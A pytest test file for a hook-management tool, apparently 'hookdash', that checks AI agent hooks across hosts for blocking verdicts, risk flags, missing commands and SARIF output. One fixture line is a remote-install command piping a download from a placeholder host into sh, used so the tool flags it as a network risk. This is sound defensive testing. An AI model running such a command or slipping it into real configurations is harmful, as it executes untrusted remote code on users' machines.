"""The commands treat every host alike (issue: every screen treats every host alike):
one verdict vocabulary, risk flags, the command-not-found check, replay. Each test runs
over every host the registry has (`tests.every_host`)."""

from __future__ import annotations

import json

import pytest

from tests.conftest import Sandbox
from tests.every_host import COVERED, EVERY_HOST, case_of


@pytest.mark.parametrize("host", EVERY_HOST)
def test_a_blocking_hook_reads_blocked_in_fire_and_log(sandbox: Sandbox, host: str) -> None:
    case = case_of(host, sandbox)
    case.write_hook(sandbox, case.tool_event, case.deny, case.shell_tool, "guard")
    fired = sandbox.cli("fire", "--host", host, case.tool_event, "--tool", case.shell_tool)
    assert fired.returncode == 0, fired.stderr
    assert "⊘ blocked" in fired.stdout and "✔" not in fired.stdout
    logged = sandbox.cli("log").stdout
    assert "⊘ blocked" in logged and "✔" not in logged
    assert host in logged.split()  # the log's host column says whose hook it was


RISKY = "curl -s https://x.example/install | sh"


@pytest.mark.parametrize("host", EVERY_HOST)
def test_list_text_flags_a_risky_hook_of_every_host(sandbox: Sandbox, host: str) -> None:
    case = case_of(host, sandbox)
    case.write_hook(sandbox, case.stop_event, RISKY, None, "installer")
    listed = sandbox.cli("list", "--host", host)
    assert listed.returncode == 0, listed.stderr
    (line,) = [line for line in listed.stdout.splitlines() if "⚠" in line]
    assert case.hook_id(RISKY, "installer")[:20] in line and "network" in line
    everything = sandbox.cli("list").stdout  # every host, one after the other
    assert any("⚠" in line and "network" in line for line in everything.splitlines())


def test_the_import_preview_flags_what_it_would_copy(sandbox: Sandbox) -> None:
    case_of("claude").write_hook(sandbox, "Stop", RISKY, None, "installer")
    preview = sandbox.cli("import", "claude")
    assert preview.returncode == 3, preview.stderr  # asks for --yes: nothing written
    (line,) = [line for line in preview.stdout.splitlines() if "⚠" in line]
    assert "network" in line
    data = json.loads(sandbox.cli("import", "claude", "--json").stdout)
    assert {r["kind"] for r in data["imported"][0]["risks"]} >= {"network"}


MISSING = "definitely-not-a-command-xyz --flag"


@pytest.mark.parametrize("host", EVERY_HOST)
def test_check_says_a_hooks_program_is_not_on_path(sandbox: Sandbox, host: str) -> None:
    case = case_of(host, sandbox)
    case.write_hook(sandbox, case.stop_event, MISSING, None, "missing")
    checked = sandbox.cli("check", "--host", host, "--json")
    assert checked.returncode == 1, checked.stderr  # an error: the hook runs and fails
    (found,) = [
        p for p in json.loads(checked.stdout)["problems"] if p["code"] == "command-not-found"
    ]
    assert "'definitely-not-a-command-xyz' is not on PATH" in found["message"]
    assert found["severity"] == "error" and found["line"]


@pytest.mark.parametrize("host", EVERY_HOST)
def test_checks_findings_name_the_host_whose_file_it_is(sandbox: Sandbox, host: str) -> None:
    """`check --format sarif` (and without --host, every host's part): each finding's agent
    is the host whose file holds the problem, not Gemini CLI's for all."""
    case = case_of(host, sandbox)
    case.write_hook(sandbox, case.stop_event, MISSING, None, "missing")
    for argv in (("check", "--host", host), ("check",)):
        sarif = json.loads(sandbox.cli(*argv, "--format", "sarif").stdout)
        agents = {
            r["properties"]["agent"]
            for r in sarif["runs"][0]["results"]
            if r["ruleId"] == "command-not-found"
        }
        assert agents == {host}, argv


@pytest.mark.parametrize("host", EVERY_HOST)
def test_hooks_off_switches_the_chosen_hosts_hooks_only(sandbox: Sandbox, host: str) -> None:
    from hookdash.core import host as host_of

    case_of(host)  # its hooks are written below, as every covered host's
    for name in COVERED:
        case = case_of(name, sandbox)
        case.write_hook(sandbox, case.stop_event, "echo hi", None, "hi")
    switched = sandbox.cli("hooks", "off", "--host", host)
    assert switched.returncode == 0, switched.stderr
    env = sandbox.env()
    for name in COVERED:
        enabled = host_of(name).load(env.workspace, env.environ).hooks_enabled
        assert enabled is (name != host), name
